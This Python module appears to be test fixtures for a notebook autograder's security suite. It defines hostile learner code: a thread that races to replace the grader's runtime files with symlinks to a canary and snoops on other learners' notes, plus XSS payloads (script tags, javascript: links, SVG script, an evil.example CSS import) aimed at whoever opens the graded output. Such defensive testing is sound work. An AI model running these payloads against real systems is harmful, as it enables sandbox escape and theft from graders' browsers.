"""Attacks on the grading machine itself, graded in the session's class run (:mod:`.class_run`).

- ``m_runtime_*``: a thread of the learner's kernel swaps every entry of the kernel's runtime
  folder (the folder of the sockets and the connection file) for a symbolic link to a root-owned
  canary file outside the sandbox, over and over, and turns ``kernel.json`` into a folder; the
  learner also leaves a note and a big file in every folder of the grader's it can write, and
  prints every note another learner left. Three of them on two workers: two share a worker.
- ``m_script``: learner outputs that would run script in the browser of whoever opens the graded
  notebook, the feedback or the formgrader's view of it, beside honest text, a PNG and a table.

Read by ``tests/test_hostile_machine.py``.
"""

from __future__ import annotations

import base64
from pathlib import Path

from .trust import NB01, Attack, Edit

CANARY_TEXT = "the grader's own file: nothing a learner does may change it\n"
BIG_BYTES = 16 * 1024**2
NOTE = "note-from-"
RUNTIME_LEARNERS = ("m_runtime_a", "m_runtime_b", "m_runtime_c")
SCRIPT_LEARNER = "m_script"

SWAP_AND_SNOOP = """import json, os, threading, time
from ipykernel.connect import get_connection_file

_CANARY, _ME = {canary!r}, {learner!r}
with open(get_connection_file()) as _f:
    _RUNTIME = os.path.dirname(json.load(_f)["ip"])
_FOLDERS = [_RUNTIME, os.path.dirname(_RUNTIME), os.path.expanduser("~"), os.getcwd()]


def _names(folder):
    try:
        return os.listdir(folder)
    except OSError:  # not listable: the names the grader is known to use
        return ["kernel.json", ".mha-kernel-runtime", *[f"ipc-{{i}}" for i in range(1, 6)]]


def _swap(folder):
    for name in _names(folder):
        path = os.path.join(folder, name)
        try:
            if name == "kernel.json" and not os.path.isdir(path):
                os.unlink(path)
                os.mkdir(path)  # the next kernel's connection file cannot be written here
            elif not name.startswith(("{note}", "big-")):
                os.symlink(_CANARY, path + ".swap")
                os.rename(path + ".swap", path)
        except OSError:
            pass


def _swap_forever():
    while True:
        _swap(_RUNTIME)
        _swap(os.path.dirname(_RUNTIME))
        time.sleep(0.0002)


threading.Thread(target=_swap_forever, daemon=True).start()

for _folder in _FOLDERS:
    for _name in _names(_folder):
        if _name.startswith("{note}") and _name != "{note}" + _ME:
            try:
                with open(os.path.join(_folder, _name)) as _f:
                    print("FOUND", _name, _f.read())
            except OSError:
                pass
    try:
        with open(os.path.join(_folder, "{note}" + _ME), "w") as _f:
            _f.write("left by " + _ME)
        with open(os.path.join(_folder, "big-" + _ME), "wb") as _f:
            _f.write(bytes({big}))
    except OSError:
        pass
"""

# One red pixel.
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c63f8cfc0f01f0005000201a5d6a2e3"
        "0000000049454e44ae426082"
    )
).decode()
SCRIPT_MARK = "stolen-by-learner"
SCRIPTS = f'''from IPython.display import HTML, SVG, Image, Javascript, display
import base64

display(HTML("<script>fetch('/api/contents?{SCRIPT_MARK}')</script><b>bold words</b>"))
display(HTML('<img src=x onerror="alert(\\'{SCRIPT_MARK}\\')">'))
display(HTML('<a href="javascript:alert(\\'{SCRIPT_MARK}\\')">a link</a>'))
display(HTML('<iframe src="javascript:alert(\\'{SCRIPT_MARK}\\')"></iframe>'))
display(HTML('<object data="data:text/html,<script>alert(1)</script>"></object>'))
display(HTML('<style>@import url(https://evil.example/{SCRIPT_MARK}.css)</style>'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("{SCRIPT_MARK}")</script>'
            '<circle r="4" onload="alert(1)"/></svg>'))
display(Javascript("alert('{SCRIPT_MARK}')"))
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "{SCRIPT_MARK}",
          "version_major": 2, "version_minor": 0}}, "text/plain": "a widget"}}, raw=True)
display({{"text/markdown": "[click](javascript:alert('{SCRIPT_MARK}')) <script>alert(1)</script>"}},
        raw=True)
display(Image(data=base64.b64decode("{PNG}"), format="png"))
display(HTML("<table><tr><th>head</th></tr><tr><td>honest cell</td></tr></table>"))
print("honest text")
'''
HONEST_MARKS = ("honest text", "honest cell", "bold words")


def canary(folder: Path) -> Path:
    return folder / "canary.txt"


def write_canary(folder: Path) -> Path:
    """A root-owned file outside every sandbox, mode 600, that the attacks point their links at."""
    path = canary(folder)
    path.write_text(CANARY_TEXT)
    path.chmod(0o600)
    return path


def attacks(folder: Path) -> list[Attack]:
    runtime = [
        Attack(
            learner,
            NB01,
            8,
            (),
            "swaps the runtime folder's entries for links to a canary; notes left for others",
            "solution",
            (
                Edit(
                    "after",
                    "setup",
                    SWAP_AND_SNOOP.format(
                        canary=str(canary(folder)), learner=learner, note=NOTE, big=BIG_BYTES
                    ),
                ),
            ),
        )
        for learner in RUNTIME_LEARNERS
    ]
    script = Attack(
        SCRIPT_LEARNER,
        NB01,
        8,
        (),
        "script, handlers, javascript: links, iframes, SVG script and a widget view in outputs",
        "release",
        (Edit("after", "setup", SCRIPTS),),
    )
    return [*runtime, script]
